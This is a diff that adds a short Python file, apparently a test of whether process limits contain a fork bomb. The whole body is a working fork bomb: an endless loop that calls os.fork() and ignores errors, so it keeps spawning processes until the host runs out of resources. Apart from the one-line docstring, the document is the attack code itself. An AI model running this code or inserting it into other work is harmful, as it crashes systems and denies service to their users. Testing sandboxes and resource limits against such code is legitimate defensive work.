@@ -1,0 +1,9 @@
+"""Does a fork bomb stay small?"""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
